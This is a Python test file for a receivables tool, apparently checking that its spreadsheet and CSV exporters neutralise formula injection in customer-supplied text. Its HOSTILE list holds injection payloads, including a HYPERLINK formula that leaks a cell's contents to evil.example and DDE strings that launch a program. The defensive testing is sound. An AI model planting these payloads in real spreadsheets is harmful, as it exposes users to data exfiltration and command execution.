"""No formula in any sheet or CSV arbots writes, whatever the customers send.

Every writer (worklist.xlsx, ``arbots sap open-items --out .xlsx|.csv``, the
interchange OPEN.csv / CUST.csv and ``arbots match`` PROPOSALS.csv) gets hostile
text in every text field it has (payer names, references, reasons ...), and
the file is read back: no formula cell, no text starting with a formula
trigger unless it is a number; amounts such as ``-12.50`` stay numbers.
"""

from __future__ import annotations

import csv
import doctest
import io
import re
import typing
from dataclasses import fields
from datetime import UTC, date, datetime
from decimal import Decimal
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from bots import formula_guard
from bots.cashapp.engine import MatchResult, MatchStats, Unmatched
from bots.domain import Customer, Decision, OpenItem, Proposal, RunStatus, Trigger
from bots.formula_guard import TRIGGERS, neutralise, restore
from bots.interchange import (
    read_open_items,
    write_customers,
    write_open_items,
    write_proposals,
)
from bots.reports import RunReport, worklist_bytes
from bots.reports.model import WORKLIST_KINDS, BotSection, BotStatus

HOSTILE = [
    "=1+1", '=HYPERLINK("http://evil.example/?"&A1,"Click")', "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
    "\uff1d1+1", "\uff0bcmd", "\uff0d2+3", "\uff20SUM(A1)", "   =1+1", "=-12.50",
]
NUMBER = re.compile(r" *[+-]?(?:\d+(?:\.\d*)?|\.\d+) *")


def dangerous(text: str) -> bool:
    """Text a spreadsheet would run: starts with a trigger and is not a plain number."""
    return text.lstrip(" ").startswith(TRIGGERS) and not NUMBER.fullmatch(text)


def test_the_guard_itself() -> None:
    assert doctest.testmod(formula_guard).failed == 0
    for text in HOSTILE:
        assert neutralise(text) == "'" + text
    for kept in ("-12.50", "+3", "12.50", "-.5", "ACME-1", "", "'quoted"):
        assert neutralise(kept) == kept
    for text in (*HOSTILE, "'=already", "''+x", "-ABC", "'quoted", "-12.50"):
        assert restore(str(neutralise(text))) == text  # our readers get the text back
    assert neutralise(Decimal("-12.50")) == Decimal("-12.50") and neutralise(None) is None


# --------------------------------------------------------------------------- checks


def check_csv(path: Path) -> list[list[str]]:
    rows = list(csv.reader(path.open(encoding="utf-8", newline="")))
    bad = [cell for row in rows for cell in row if dangerous(cell)]
    assert bad == [], f"{path.name}: formula triggers written: {bad}"
    return rows


def check_xlsx(data: bytes, name: str) -> openpyxl.Workbook:
    book = openpyxl.load_workbook(io.BytesIO(data))  # formulas kept as formulas
    formulas = [f"{ws.title}!{c.coordinate}" for ws in book for row in ws.iter_rows()
                for c in row if c.data_type == "f"]
    assert formulas == [], f"{name}: formula cells {formulas}"
    bad = [c.value for ws in book for row in ws.iter_rows() for c in row
           if isinstance(c.value, str) and dangerous(c.value)]
    assert bad == [], f"{name}: formula triggers written: {bad}"
    return book


# --------------------------------------------------------------------------- inputs


def hostile_items() -> list[OpenItem]:
    return [OpenItem("1000", "0000100001", f"90000000{n:02d}", "2026", "001", "USD",
                     Decimal("-12.50") if n % 2 else Decimal("1234.50"),
                     date(2026, 11, 1), date(2026, 12, 1), invoice_ref=text,
                     po_number=HOSTILE[-1 - n], discount_pct=Decimal("2"),
                     discount_date=date(2026, 11, 15))
            for n, text in enumerate(HOSTILE)]


def hostile_row(kind: type, text: str) -> Any:
    """A worklist row of ``kind`` with ``text`` in every text field."""
    hints = typing.get_type_hints(kind)
    values: dict[str, object] = {}
    for f in fields(kind):
        hint = hints[f.name]
        if f.name == "currency":
            values[f.name] = "USD"
        elif hint is str or hint == str | None:
            values[f.name] = text
        elif Decimal in typing.get_args(hint) or hint is Decimal:
            values[f.name] = Decimal("-12.50")
        elif date in typing.get_args(hint) or hint is date:
            values[f.name] = date(2026, 11, 1)
        elif hint is float:
            values[f.name] = 0.5
        elif int in typing.get_args(hint) or hint is int:
            values[f.name] = 1
    return kind(**values)


# --------------------------------------------------------------------------- writers


def test_worklist_xlsx(tmp_path: Path) -> None:
    report = RunReport(
        run_id="run-1", status=RunStatus.OK, trigger=Trigger.ON_DEMAND, dry_run=False,
        started=datetime(2026, 11, 24, 2, tzinfo=UTC), ended=None, config_source=HOSTILE[0],
        bots=[BotSection(name=HOSTILE[1], status=BotStatus.OK, counts={HOSTILE[2]: 1})],
        worklist=[hostile_row(kind, text) for kind in WORKLIST_KINDS for text in HOSTILE])
    book = check_xlsx(worklist_bytes(report), "worklist.xlsx")
    shown = {c.value for ws in book for row in ws.iter_rows() for c in row}
    assert "'" + HOSTILE[0] in shown and "'" + HOSTILE[7] in shown  # kept, readable
    amounts = [c for row in book["Unmatched"].iter_rows(min_row=2) for c in row
               if c.number_format == "#,##0.00"]
    assert amounts and all(c.data_type == "n" and c.value == -12.5 for c in amounts)


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_interchange_open_items(tmp_path: Path, suffix: str) -> None:
    path = tmp_path / f"open{suffix}"
    assert write_open_items(hostile_items(), path) == len(HOSTILE)
    if suffix == ".xlsx":
        rows = [[c.value for c in row]
                for row in check_xlsx(path.read_bytes(), path.name).active.iter_rows()]
    else:
        rows = check_csv(path)
    amount = rows[0].index("amount")
    assert [row[amount] for row in rows[1:3]] == ["1234.50", "-12.50"]  # numbers untouched
    assert rows[1][rows[0].index("invoice_ref")] == "'" + HOSTILE[0]
    if suffix == ".csv":  # still the interchange contract: the matcher reads it back
        items, problems = read_open_items(path)
        assert problems == [] and [i.amount for i in items[:2]] == [Decimal("1234.50"),
                                                                     Decimal("-12.50")]


def test_interchange_customers(tmp_path: Path) -> None:
    write_customers([
        Customer(f"00001000{n:02d}", text, parent=HOSTILE[-1], aliases=(text, "ACME"))
        for n, text in enumerate(HOSTILE)], tmp_path / "CUST.csv")
    check_csv(tmp_path / "CUST.csv")


def test_match_proposals_csv(tmp_path: Path) -> None:
    result = MatchResult(
        proposals=[Proposal(text, 0, "0000100001", "9000000001", "2026", "001",
                            Decimal("-12.50"), Decision.REVIEW, 0.5, text, f"{text} paid it")
                   for text in HOSTILE],
        unmatched=[Unmatched(text, None, text, Decimal("-12.50"), "USD", text)
                   for text in HOSTILE],
        on_account=[], stats=MatchStats())
    assert write_proposals(result, tmp_path / "PROPOSALS.csv") == 2 * len(HOSTILE)
    rows = check_csv(tmp_path / "PROPOSALS.csv")
    applied = rows[0].index("applied_amount")
    assert rows[1][applied] == "-12.50"
